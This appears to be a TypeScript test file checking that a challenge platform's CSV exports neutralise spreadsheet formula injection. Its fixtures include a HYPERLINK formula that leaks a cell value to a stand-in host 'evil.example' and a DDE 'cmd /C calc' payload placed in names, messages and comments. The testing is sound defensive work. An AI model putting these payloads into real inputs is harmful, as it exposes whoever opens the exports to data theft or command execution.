import assert from 'node:assert/strict';
import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { csrfFrom, datasetFile, signedInAgent, waitForTerminal } from './helpers.js';
import { ANON_COOKIE } from '../src/crowd/routes.js';
import { CSRF_COOKIE } from '../src/web/middleware.js';
import { crowdContext, organizerAgent, serve, vote } from './crowd-helpers.js';

const records = (text: string) => parse(text, { columns: true }) as Array<Record<string, string>>;

/** What participants and volunteers can type that a spreadsheet would run. */
const ANON_ID = '-cmdAAAAAAAAAAAAAAAA';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

describe('exports for people neutralise spreadsheet formulas', function () {
  let ctx: Awaited<ReturnType<typeof crowdContext>>;
  let org: Awaited<ReturnType<typeof organizerAgent>>;
  let submissionId: number;

  before(async () => {
    ctx = await crowdContext({ trainingChances: [0] });
    org = await organizerAgent(ctx);
    const evil = await signedInAgent(ctx.app, 'evil@example.org', HYPERLINK);
    await evil.agent.post('/challenges/xmm-sources/team').type('form').send({ _csrf: evil.csrf, name: '+1 team' }).expect(303);
    const sample = fs.readFileSync(datasetFile('xmm-sources', 'sample_submission.csv.gz'));
    const res = await evil.agent.post(`/challenges/xmm-sources/submissions?_csrf=${evil.csrf}`).set('Accept', 'application/json').field('message', '-cmd|\' /C calc\'!A0').attach('file', sample, 's.csv.gz').expect(202);
    submissionId = res.body.submission.id;
    assert.equal((await waitForTerminal(ctx.handle, submissionId)).status, 'scored');
    const volunteer = await signedInAgent(ctx.app, 'sum@example.org', '@SUM(1+1)*cmd');
    const s = await serve(volunteer.agent);
    await vote(volunteer.agent, volunteer.csrf, s.token, 'AGN').expect(201);
    await volunteer.agent.post(`/crowd/xmm-sources/subjects/${s.subject!.id}/comments`).set('Accept', 'application/json').set('X-CSRF-Token', volunteer.csrf).send({ body: HYPERLINK }).expect(201);
    // The anonymous id comes from the browser's cookie, so its first character is the visitor's choice.
    const csrf = csrfFrom((await request(ctx.app).get('/login').expect(200)).text);
    const cookie = `${ANON_COOKIE}=${ANON_ID}; ${CSRF_COOKIE}=${csrf}`;
    const anon = await request(ctx.app).get('/crowd/xmm-sources/classify').set('Accept', 'application/json').set('Cookie', cookie).expect(200);
    await request(ctx.app).post('/crowd/xmm-sources/votes').set('Accept', 'application/json').set('Cookie', cookie).set('X-CSRF-Token', csrf).send({ token: anon.body.token, answer: 'Star' }).expect(201);
  });
  after(async () => ctx.close());

  it('submissions export: user name, team name and message start with a quote; scores stay numbers', async () => {
    const res = await org.agent.get('/organize/xmm-sources/export/submissions.csv').expect(200);
    const row = records(res.text).find((r) => Number(r.id) === submissionId)!;
    assert.equal(row.user_name, `'${HYPERLINK}`);
    assert.equal(row.team_name, "'+1 team");
    assert.equal(row.message, "'-cmd|' /C calc'!A0");
    const stored = await ctx.handle.db.selectFrom('submissions').select(['public_score', 'private_score']).where('id', '=', submissionId).executeTakeFirstOrThrow();
    assert.equal(row.public_score, String(stored.public_score));
    assert.equal(row.private_score, String(stored.private_score));
  });

  it('leaderboard export: the entrant name starts with a quote; rank and score stay numbers', async () => {
    const res = await org.agent.get('/organize/xmm-sources/export/leaderboard.csv?board=private').expect(200);
    const rows = records(res.text);
    const row = rows.find((r) => Number(r.submission_id) === submissionId)!;
    assert.equal(row.name, "'+1 team");
    assert.equal(row.members, `'${HYPERLINK}`);
    assert.match(row.rank, /^\d+$/);
    const stored = await ctx.handle.db.selectFrom('submissions').select('private_score').where('id', '=', submissionId).executeTakeFirstOrThrow();
    assert.equal(row.score, String(stored.private_score));
  });

  it("crowd classifications export: the volunteer's name and an anonymous id start with a quote", async () => {
    const res = await org.agent.get('/crowd/xmm-sources/export/classifications.csv').expect(200);
    const rows = records(res.text);
    const mine = rows.find((r) => r.user_name === "'@SUM(1+1)*cmd");
    assert.ok(mine, 'the volunteer name is neutralised');
    assert.match(mine.time_on_page_ms, /^\d+$/);
    assert.match(mine.info_bits, /^\d+\.\d{6}$/);
    const anon = rows.find((r) => r.anonymous_id.endsWith(ANON_ID));
    assert.equal(anon?.anonymous_id, `'${ANON_ID}`);
  });

  it('crowd comments export: the comment and its author start with a quote', async () => {
    const res = await org.agent.get('/crowd/xmm-sources/export/comments.csv').expect(200);
    assert.match(res.headers['content-disposition'], /attachment/);
    const rows = records(res.text);
    assert.equal(rows.length, 1);
    assert.equal(rows[0].comment, `'${HYPERLINK}`);
    assert.equal(rows[0].user_name, "'@SUM(1+1)*cmd");
    assert.match(rows[0].subject_id, /^\d+$/);
  });
});
